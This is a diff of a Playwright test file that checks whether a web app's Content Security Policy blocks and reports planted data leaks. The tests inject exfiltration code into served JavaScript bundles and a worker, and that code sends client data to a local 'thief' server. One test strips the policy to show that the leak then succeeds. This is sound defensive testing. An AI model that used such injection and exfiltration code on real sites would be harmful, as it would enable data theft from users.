@@ -1,10 +1,9 @@
-import { expect, test } from '@playwright/test';
 import { spawnSync } from 'node:child_process';
 import { join } from 'node:path';
 import { writeDemo } from './main-job.ts';
 import { doWholeJob, loaded } from './tools/whole-job.ts';
 import { type StaticHost, staticHost, thief } from './tools/static-host.ts';
-import { watch } from './tools/witness.ts';
+import { expect, test } from './tools/sealed-test.ts';
 
 /** Enough to be read by several workers: less is read by the desk itself. */
 const CLIENTS = 1200;
@@ -19,8 +18,10 @@ test.afterEach(async () => {
   hosts = [];
 });
 
-test('after load the whole job makes no request and breaks no rule', async ({ page }) => {
-  const { requests, violations } = await watch(page);
+test('after load the whole job makes no request and breaks no rule', async ({
+  page,
+  witness: { requests, violations },
+}) => {
   await page.goto('');
   await loaded(page);
   await page.evaluate(() => navigator.serviceWorker.ready);
@@ -32,9 +33,9 @@ test('after load the whole job makes no request and breaks no rule', async ({ pa
 
 test('on a host without headers, in a folder, it is the same; the host hears nothing', async ({
   page,
+  witness: { requests, violations },
 }) => {
   const host = await start(staticHost('/bank/tools/'));
-  const { requests, violations } = await watch(page);
   await page.goto(host.address);
   await loaded(page);
   await page.evaluate(() => navigator.serviceWorker.ready);
@@ -116,51 +117,59 @@ const inWorker = (leak: string): string =>
   `;addEventListener('securitypolicyviolation', (event) => console.error('Content Security Policy ' + event.blockedURI));` +
   `addEventListener('message', () => { ${leak} });`;
 
-for (const [name, leak] of Object.entries(LEAKS)) {
-  for (const where of ['page', 'worker'] as const) {
-    if (where === 'worker' && !['fetch', 'socket', 'import'].includes(name)) continue;
-    test(`a planted leak is stopped and seen: ${name} in the ${where}`, async ({ page }) => {
-      const [host, other] = [await start(staticHost()), await start(thief())];
-      const targets = [`${other.address}?client=1`, `${host.address}stolen?client=1`];
-      // One after the other: a form that is sent calls back the one before.
-      const code = targets
-        .map((to, at) => `setTimeout(() => { const TO = '${to}'; ${leak} }, ${at * 300});`)
-        .join('\n');
-      host.change = (path, content) => {
-        if (where === 'page' && /^assets\/index-.*js$/.test(path))
-          return content.toString() + inPage(code);
-        if (where === 'worker' && path.includes('browser-entry'))
-          return content.toString() + inWorker(code);
-        return content;
-      };
-      const { violations } = await watch(page);
-      await page.goto(host.address);
-      await loaded(page);
-      await page.getByRole('button', { name: /Демо-данные/ }).click();
-      // Both ways out were tried, and both were noticed.
-      const tried = [new URL(other.address).host, new URL(host.address).host];
-      await expect
-        .poll(() => tried.filter((to) => !violations.some((text) => text.includes(to))))
-        .toEqual([]);
-      expect(other.requests).toEqual([]);
-      expect(host.requests.filter((request) => request.includes('stolen'))).toEqual([]);
-    });
-  }
-}
+test.describe('planted', () => {
+  test.use({ leaky: true });
 
-test('the witness is awake: without the policy the same leak gets out', async ({ page }) => {
-  const [host, other] = [await start(staticHost()), await start(thief())];
-  const leak = `fetch('${other.address}?client=1').catch(() => 0)`;
-  host.change = (path, content) => {
-    const text = content.toString();
-    if (path === 'index.html') return text.replace(/<meta http-equiv[^>]*>/, '');
-    if (!/^assets\/index-.*js$/.test(path)) return content;
-    return text.replace(/Content-Security-Policy/g, 'x-none') + inPage(leak);
-  };
-  const { requests } = await watch(page);
-  await page.goto(host.address);
-  await loaded(page);
-  await page.getByRole('button', { name: /Демо-данные/ }).click();
-  await expect.poll(() => other.requests).toEqual(['GET /?client=1']);
-  expect(requests).toContain(`${other.address}?client=1`);
+  for (const [name, leak] of Object.entries(LEAKS)) {
+    for (const where of ['page', 'worker'] as const) {
+      if (where === 'worker' && !['fetch', 'socket', 'import'].includes(name)) continue;
+      test(`a planted leak is stopped and seen: ${name} in the ${where}`, async ({
+        page,
+        witness: { violations },
+      }) => {
+        const [host, other] = [await start(staticHost()), await start(thief())];
+        const targets = [`${other.address}?client=1`, `${host.address}stolen?client=1`];
+        // One after the other: a form that is sent calls back the one before.
+        const code = targets
+          .map((to, at) => `setTimeout(() => { const TO = '${to}'; ${leak} }, ${at * 300});`)
+          .join('\n');
+        host.change = (path, content) => {
+          if (where === 'page' && /^assets\/index-.*js$/.test(path))
+            return content.toString() + inPage(code);
+          if (where === 'worker' && path.includes('browser-entry'))
+            return content.toString() + inWorker(code);
+          return content;
+        };
+        await page.goto(host.address);
+        await loaded(page);
+        await page.getByRole('button', { name: /Демо-данные/ }).click();
+        // Both ways out were tried, and both were noticed.
+        const tried = [new URL(other.address).host, new URL(host.address).host];
+        await expect
+          .poll(() => tried.filter((to) => !violations.some((text) => text.includes(to))))
+          .toEqual([]);
+        expect(other.requests).toEqual([]);
+        expect(host.requests.filter((request) => request.includes('stolen'))).toEqual([]);
+      });
+    }
+  }
+
+  test('the witness is awake: without the policy the same leak gets out', async ({
+    page,
+    witness: { requests },
+  }) => {
+    const [host, other] = [await start(staticHost()), await start(thief())];
+    const leak = `fetch('${other.address}?client=1').catch(() => 0)`;
+    host.change = (path, content) => {
+      const text = content.toString();
+      if (path === 'index.html') return text.replace(/<meta http-equiv[^>]*>/, '');
+      if (!/^assets\/index-.*js$/.test(path)) return content;
+      return text.replace(/Content-Security-Policy/g, 'x-none') + inPage(leak);
+    };
+    await page.goto(host.address);
+    await loaded(page);
+    await page.getByRole('button', { name: /Демо-данные/ }).click();
+    await expect.poll(() => other.requests).toEqual(['GET /?client=1']);
+    expect(requests).toContain(`${other.address}?client=1`);
+  });
 });
